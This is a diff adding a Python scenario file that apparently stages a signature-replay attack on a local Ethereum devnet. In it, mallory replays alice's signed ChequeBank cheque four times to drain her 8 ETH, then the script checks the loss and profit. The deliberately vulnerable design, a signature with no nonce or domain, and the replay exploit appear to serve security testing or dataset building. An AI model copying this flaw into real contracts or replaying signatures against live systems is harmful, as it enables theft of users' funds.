@@ -1,0 +1,88 @@
+"""Scenario `signature-replay-cheque`: one signed ChequeBank cheque cashed again and again.
+
+Alice, bob and carol deposit 20 ETH into ChequeBank. Alice pays mallory 2 ETH with a signed cheque
+(payer, payee, amount; no nonce, no domain), which mallory cashes honestly. Mallory then deploys
+ChequeReplayer and has it cash the same cheque four more times in one transaction, until alice's
+account (8 ETH) is empty; bob's and carol's deposits stay.
+"""
+
+from __future__ import annotations
+
+from eth_account.messages import encode_defunct
+from eth_utils.crypto import keccak
+
+from timemachine.catalog.builder import ETHER
+from timemachine.catalog.devnet import actor_account, actor_address
+from timemachine.catalog.models import ScenarioRecord
+from timemachine.catalog.scenarios.base import Scenario
+from timemachine.catalog.scenarios.contract import deploy
+from timemachine.catalog.scenarios.world import World
+from timemachine.errors import DevnetBuildError
+
+ATTACKER = "mallory"
+VICTIM = "alice"
+CHEQUE = 2 * ETHER
+EXPLOIT_GAS = 1_000_000
+
+
+def sign_cheque(payer: str, payee: str, amount: int) -> bytes:
+    """Actor `payer`'s 65-byte signature (r, s, v) of ChequeBank's cheque to actor `payee`."""
+    cheque = keccak(
+        bytes.fromhex(actor_address(payer)[2:])
+        + bytes.fromhex(actor_address(payee)[2:])
+        + amount.to_bytes(32, "big")
+    )
+    signed = actor_account(payer).sign_message(encode_defunct(primitive=cheque))
+    return bytes(signed.signature)
+
+
+async def stage(world: World) -> ScenarioRecord:
+    """Fund the bank, cash one cheque honestly, replay it; verify the exact loss and payout."""
+    chain, a = world.chain, actor_address
+    bank = await deploy(chain, "deployer", "ChequeBank")
+    await chain.mine()
+    for user, amount in {VICTIM: 10, "bob": 6, "carol": 4}.items():
+        await bank.send(user, "deposit", value=amount * ETHER)
+    await chain.mine()
+    signature = sign_cheque(VICTIM, ATTACKER, CHEQUE)
+    await bank.send(ATTACKER, "cash", a(VICTIM), a(ATTACKER), CHEQUE, signature)
+    replayer = await deploy(chain, ATTACKER, "ChequeReplayer")
+    await chain.mine()
+
+    held = await chain.balance(bank.address)
+    before = await chain.balance(a(ATTACKER))
+    exploit_tx = await replayer.send(
+        ATTACKER, "replay", bank.address, a(VICTIM), CHEQUE, signature, gas=EXPLOIT_GAS
+    )
+    block = await chain.mine()
+    fee = block.fee(exploit_tx)
+    profit = await chain.balance(a(ATTACKER)) - before
+    left = await chain.balance(bank.address)
+    loss = held - left
+    if (held, left) != (18 * ETHER, 10 * ETHER) or profit != loss - fee:
+        raise DevnetBuildError(
+            f"cheque replay {exploit_tx} misbehaved: bank held {held} wei, kept {left}, "
+            f"attacker profit {profit} wei (fee {fee})"
+        )
+    return SCENARIO.record(
+        exploit_tx=exploit_tx,
+        block_number=block.number,
+        attacker=a(ATTACKER),
+        attacker_contracts=[replayer.address],
+        victims=[bank.address],
+        expected_loss_wei=loss,
+    )
+
+
+SCENARIO = Scenario(
+    id="signature-replay-cheque",
+    title="ChequeBank cheque replayed: signature without nonce or domain",
+    description=(
+        "ChequeBank.cash verifies the payer's signature over (payer, payee, amount) only and never "
+        "records a cashed cheque. After cashing alice's 2 ETH cheque once, the attacker's "
+        "ChequeReplayer cashes the same signature four more times in one transaction, emptying "
+        "alice's account (8 ETH); the other depositors' 10 ETH stay in the bank."
+    ),
+    vulnerability_class="signature_replay",
+    stage=stage,
+)
